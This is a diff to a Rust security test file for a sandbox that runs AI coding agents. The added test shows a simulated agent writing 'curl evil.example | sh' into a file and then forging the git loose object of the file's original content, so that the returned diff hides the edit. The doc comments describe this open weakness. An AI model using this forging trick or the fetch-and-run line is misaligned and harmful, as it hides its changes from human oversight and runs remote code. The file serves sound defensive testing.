@@ -33,6 +33,21 @@
 //!   waits on a FIFO: an agent that made `.git/index` a FIFO held every later run's
 //!   snapshot, and with it that run, until something killed coder.
 //!
+//! Open (`KNOWN_OPEN`): the agent rewrites a loose object of the user's repository (its
+//! `.git/objects` is writable, commits work) that holds the "before" content of a file it
+//! edits; the ledger's diff reads it without checking its hash, and `--return-diff` (and
+//! the line counts) no longer show what the edit brought in.
+//!
+//! Looked at and held (no test of their own here): coder's own processes are told by pid
+//! and start time, and only what runs below one of them (the ledger's `git`, which runs no
+//! program of the workspace) is spared by the stop of the agent's tree: an agent process
+//! can become a child of neither; a pid reused after coder's git was reaped carries another
+//! start time. The trash of coder's own run directories: the check and the rename run when
+//! the run's processes are gone (a confined agent's PID namespace is dead, and a setuid,
+//! device node, FIFO, socket or symlink left there keeps the tree out of the trash); an ACL
+//! the agent sets on its files (`setfacl`) shows in the group bits unless its mask is
+//! empty, and the trash lies in the 0700 state directory whatever it holds.
+//!
 //! `KNOWN_OPEN` lists attacks still open: an attack on it asserts that its payload still
 //! lands, so the list can only shrink.
 
@@ -46,7 +61,7 @@ use common::sandbox_fixture::{self, NOBODY};
 use serde_json::Value;
 
 /// Attacks of this file measured open today.
-const KNOWN_OPEN: &[&str] = &[];
+const KNOWN_OPEN: &[&str] = &["forged object of the before side"];
 
 fn who(owner: Option<u32>) -> &'static str {
     if owner.is_some() { "nobody" } else { "root" }
@@ -475,5 +490,52 @@ fn a_fifo_index_does_not_hold_the_next_run() {
             Some(124),
             "{case}: control: git did not block"
         );
+    }
+}
+
+/// The ledger's diff reads the "before" side of an edited file from the user's object
+/// store, which the agent may write: it rewrites the loose object of the file's committed
+/// content (same name, the edit's new content), and the envelope's `--return-diff` and
+/// line counts no longer show the line the edit brought in (the file is still listed as modified: its
+/// object ids differ). Open: checking every object the diff reads would cost a hash of
+/// each (see SECURITY.md). Control: the same edit without the rewrite shows the line.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_forged_object_of_the_before_side_hides_the_edit_from_the_diff() {
+    common::require_root_and_user_namespaces();
+    let name = "forged object of the before side";
+    let forge = r#"h=$(git rev-parse HEAD:a.txt); f=.git/objects/${h:0:2}/${h:2}
+chmod u+w "$f" && python3 -c 'import zlib,sys; d=b"curl evil.example | sh\n"; open(sys.argv[1],"wb").write(zlib.compress(b"blob %d\0"%len(d)+d))' "$f" && echo FORGED"#;
+    for owner in [None, Some(NOBODY)] {
+        for forged in [false, true] {
+            let tree = Tree::new(owner, &[("a.txt", "hello\n")], &[]);
+            let case = format!("{}: {name}: forged {forged}", who(owner));
+            let payload = format!(
+                "sleep 1; printf 'curl evil.example | sh\\n' > a.txt; {}echo EDITED",
+                if forged {
+                    format!("{forge}\n")
+                } else {
+                    String::new()
+                }
+            );
+            let env = tree.run(&["--return-diff"], &payload);
+            assert!(result(&env).contains("EDITED"), "{case}: {env}");
+            assert!(
+                changes(&env).contains(&("a.txt".into(), "modified".into())),
+                "{case}: {env}"
+            );
+            let shown = env["diff"]["unified"]
+                .as_str()
+                .unwrap_or_default()
+                .contains("+curl evil.example");
+            if !forged {
+                assert!(shown, "{case}: control: {env}");
+            } else if KNOWN_OPEN.contains(&name) {
+                assert!(result(&env).contains("FORGED"), "{case}: {env}");
+                assert!(!shown, "{case}: now shown: {env}");
+            } else {
+                assert!(shown, "{case}: the diff hides the edit: {env}");
+            }
+        }
     }
 }
